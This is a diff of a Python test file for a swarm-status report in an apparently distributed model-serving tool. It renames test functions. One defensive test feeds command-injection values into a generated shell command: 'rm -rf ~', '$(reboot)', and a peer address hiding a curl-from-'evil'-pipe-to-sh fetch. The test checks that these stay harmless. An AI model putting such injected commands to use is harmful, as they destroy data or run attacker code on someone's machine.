@@ -42,7 +42,7 @@ def state(*servers: KnownServer, **more: object) -> SwarmState:
     return replace(SwarmState("tiny", VERSION, 6, servers, "me"), **more)  # type: ignore[arg-type]
 
 
-def test_blocks_are_covered_by_online_servers_that_are_not_banned() -> None:
+def test_online_unbanned_servers_cover_blocks() -> None:
     ban = Ban(PEERS[3], 1e12, "lied", "own")
     report = swarm_report(
         state(
@@ -63,7 +63,7 @@ def test_coverage_ends_with_the_model() -> None:
     assert spans_with([1, 0, 0, 1, 0], 0) == [Span(1, 3), Span(4, 5)]
 
 
-def test_the_command_that_would_help_serves_what_is_missing() -> None:
+def test_command_that_would_help_serves_what_is_missing() -> None:
     address = "/ip4/192.0.2.7/tcp/4001"
     told = swarm_report(state(server((0, 2), addrs=(address,), path="direct"), server((5, 6), 1)))["help"]
     assert told["command"] == f"petalnode serve tiny --blocks 2:5 --peer {address}/p2p/{PEERS[0]}"
@@ -80,14 +80,14 @@ def test_the_command_that_would_help_serves_what_is_missing() -> None:
     assert asked["join"] == "petalnode join petalnode:aeaq"
 
 
-def test_one_server_more_helps_where_there_is_only_one() -> None:
+def test_one_more_server_helps_a_lone_one() -> None:
     single = swarm_report(state(server((0, 6)), server((0, 4), 1)))["help"]
     assert "blocks 4:6" in single["text"] and "--blocks" not in single["command"]
     assert swarm_report(state(server((0, 6)), server((0, 6), 1)))["help"] is None
 
 
 @pytest.mark.parametrize("model", ["tiny; rm -rf ~", "$(reboot)", "a'b"])
-def test_what_a_person_copies_into_a_shell_is_words_only(model: str) -> None:
+def test_what_person_copies_into_shell_is_words_only(model: str) -> None:
     """Addresses are written by strangers: a name in one may hold whatever a shell understands."""
     address = "/dns4/x;curl$IFS'evil|sh`/tcp/1"
     command = swarm_report(state(server((0, 2), addrs=(address,), path="direct"), model=model))["help"]["command"]
@@ -95,7 +95,7 @@ def test_what_a_person_copies_into_a_shell_is_words_only(model: str) -> None:
     assert words == ["petalnode", "serve", model, "--blocks", "2:6", "--peer", f"{address}/p2p/{PEERS[0]}"]
 
 
-def test_a_server_says_how_it_is_reached_and_what_is_thought_of_it() -> None:
+def test_server_says_how_it_is_reached() -> None:
     known = server((0, 6), step_seconds=0.01, cache_tokens_free=7, round_trip=0.0123, path="relay", reputation=0.5)
     (one,) = swarm_report(state(known))["servers"]
     assert (one["throughput"], one["cache_tokens_free"]) == (100.0, 7)
@@ -103,7 +103,7 @@ def test_a_server_says_how_it_is_reached_and_what_is_thought_of_it() -> None:
     assert one["verdict"] is None and one["banned_until"] is None
 
 
-def test_the_last_verdict_is_that_of_a_validator_or_the_reason_of_a_ban() -> None:
+def test_last_verdict_is_a_validators_or_a_bans() -> None:
     verdict = LastVerdict("ok", "", 5.0)
     (one,) = swarm_report(state(server((0, 6), verdict=verdict)))["servers"]
     assert one["verdict"] == {"verdict": "ok", "reason": "", "source": "validator", "time": 5.0}
@@ -113,7 +113,7 @@ def test_the_last_verdict_is_that_of_a_validator_or_the_reason_of_a_ban() -> Non
     assert one["banned_until"] == 9e9
 
 
-def test_round_trips_are_ours_and_those_of_listed_servers() -> None:
+def test_round_trips_are_to_listed_servers() -> None:
     rtts = {PEERS[1]: 0.02, "somebody else": 0.1, PEERS[0]: 0.0}
     report = swarm_report(state(server((0, 3), round_trip=0.001, rtts=rtts), server((3, 6), 1)))
     assert report["round_trips"] == [
@@ -135,7 +135,7 @@ def test_a_flood_of_servers_makes_no_larger_report() -> None:
     assert report["coverage"] == [3001] * 6
 
 
-def test_a_server_of_another_shape_is_no_server_of_this_model() -> None:
+def test_server_of_another_shape_is_not_the_models() -> None:
     other = replace(server((0, 6)), said=replace(server((0, 6)).said, num_blocks=7))
     assert swarm_report(state(other))["servers"] == []
 
